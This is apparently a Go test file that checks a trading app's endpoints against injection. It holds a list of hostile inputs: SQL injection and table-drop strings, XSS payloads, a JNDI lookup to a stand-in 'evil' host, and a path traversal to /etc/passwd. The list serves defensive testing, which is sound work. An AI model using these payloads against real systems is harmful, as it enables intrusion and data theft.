package security

import (
	"encoding/json"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/tradeexec/tradeexec/internal/auth"
	"github.com/tradeexec/tradeexec/schema"
)

var injections = []string{
	`' OR '1'='1`,
	`admin'--`,
	`"; DROP TABLE users; --`,
	`1; SELECT pg_sleep(5)`,
	`1 UNION SELECT password_hash FROM users`,
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`{{7*7}}`,
	`${jndi:ldap://evil/x}`,
	`../../../../etc/passwd`,
	`{"$gt": ""}`,
	"nul\x00byte",
	"\xff\xfe invalid utf-8",
	strings.Repeat("Ä", 2000),
}

// leaks are fragments that must never reach a client.
var leaks = []string{"sql", "sqlite", "pq:", "gorm", "syntax error", "panic", "goroutine", ".go:", "runtime/", "stack", "select ", "<script>"}

// issuedTokens are the random tokens an answer may carry (a session's
// access and CSRF tokens): base64 text in which a leak fragment such as
// "sql" turns up by chance (it did, once in CI), so their values are
// blanked before the scan.
var issuedTokens = regexp.MustCompile(`"(accessToken|refreshToken|csrfToken)":"[^"]*"`)

// requireClean checks an answer to input in: no 5xx, JSON, and nothing
// that is not the input's own (JSON-escaped) echo looks like an internal.
func requireClean(t *testing.T, what, in string, r resp) {
	t.Helper()
	require.Less(t, r.Status, 500, "%s: %s", what, r.Raw)
	echo, _ := json.Marshal(in)
	raw := issuedTokens.ReplaceAllString(r.Raw, `"$1":""`)
	low := strings.ToLower(strings.ReplaceAll(raw, strings.Trim(string(echo), `"`), ""))
	for _, l := range leaks {
		if strings.Contains(strings.ToLower(in), l) {
			continue // an echo (possibly truncated) of the input itself
		}
		require.NotContains(t, low, l, "%s leaks %q: %s", what, l, r.Raw)
	}
	if r.Raw != "" {
		require.Contains(t, r.Header.Get("Content-Type"), "application/json", what)
	}
}

// Injection (A03): hostile strings in every field and parameter are
// answered with a 4xx (or a normal result), never an error from the
// database, and change nothing.
func TestInjectionInEveryField(t *testing.T) {
	s := sqliteSuite(t)
	alice := s.user(auth.RoleTrader)
	ada := s.user(auth.RoleAdmin)
	var usersBefore int64
	s.env.DB.Model(&schema.User{}).Count(&usersBefore)
	registered := int64(0)

	for _, in := range injections {
		// Sign-in bodies: each field, each from a fresh client (rate limits).
		for _, body := range []map[string]string{
			{"email": in, "password": password},
			{"email": alice.email, "password": in},
		} {
			requireClean(t, "login "+in, in, s.newClient().do(http.MethodPost, "/auth/login", body))
		}
		for _, body := range []map[string]string{
			{"email": in, "password": password},
			{"email": "new@example.com", "password": in},
			{"email": "x" + url.QueryEscape(in[:min(len(in), 8)]) + "@example.com", "password": password, "displayName": in},
		} {
			r := s.newClient().do(http.MethodPost, "/auth/register", body)
			requireClean(t, "register "+in, in, r)
			if r.Status == http.StatusCreated {
				registered++
				if body["displayName"] != "" {
					require.Equal(t, viaJSON(in), r.Body["user"].(map[string]any)["displayName"], "stored as given")
				}
			}
		}
		requireClean(t, "password "+in, in, alice.do(http.MethodPost, "/api/v1/me/password", map[string]string{"currentPassword": in, "newPassword": in}))

		q := url.QueryEscape(in)
		for _, p := range []string{"/api/v1/trades?status=" + q, "/api/v1/trades?symbol=" + q, "/api/v1/trades?limit=" + q,
			"/api/v1/trades?user_id=" + q, "/api/v1/trades/" + url.PathEscape(in), "/api/v1/trades/" + url.PathEscape(in) + "/cancel"} {
			method := http.MethodGet
			if strings.HasSuffix(p, "/cancel") {
				method = http.MethodPost
			}
			requireClean(t, p, in, alice.do(method, p, nil))
		}
		for _, p := range []string{"user_id", "action", "from", "to", "limit"} {
			requireClean(t, "audit "+p, in, ada.do(http.MethodGet, "/api/v1/audit?"+p+"="+q, nil))
		}
		requireClean(t, "webhook", in, s.newClient().do(http.MethodPost, "/webhooks/tradingview/"+url.PathEscape(in), `{"ticker":"AAPL"}`))
		requireClean(t, "webhook body", in, s.newClient().do(http.MethodPost, "/webhooks/tradingview/"+s.env.Demo.WebhookToken,
			`{"ticker":"`+strings.ReplaceAll(in, `"`, `\"`)+`","action":"buy","quantity":1,"type":"market"}`))
	}
	// The display name is stored as given and returned JSON-escaped.
	c := s.newClient()
	r := c.do(http.MethodPost, "/auth/register", map[string]string{"email": "xss@example.com", "password": password, "displayName": "<script>alert(1)</script>"})
	require.Equal(t, http.StatusCreated, r.Status, r.Raw)
	require.NotContains(t, r.Raw, "<script>")
	require.Equal(t, "<script>alert(1)</script>", r.Body["user"].(map[string]any)["displayName"])

	var usersAfter int64
	require.NoError(t, s.env.DB.Model(&schema.User{}).Count(&usersAfter).Error)
	require.Equal(t, usersBefore+registered+1, usersAfter, "only the legitimate registrations")
	s.clock.Advance(auth.MaxThrottleDelay) // the failed injections throttle the address (not a lockout)
	require.Equal(t, http.StatusOK, s.newClient().login(alice.email).Status, "accounts intact")
}

// viaJSON is s as it arrives after JSON encoding (invalid UTF-8 bytes
// become U+FFFD).
func viaJSON(s string) string {
	raw, _ := json.Marshal(s)
	var out string
	_ = json.Unmarshal(raw, &out)
	return out
}
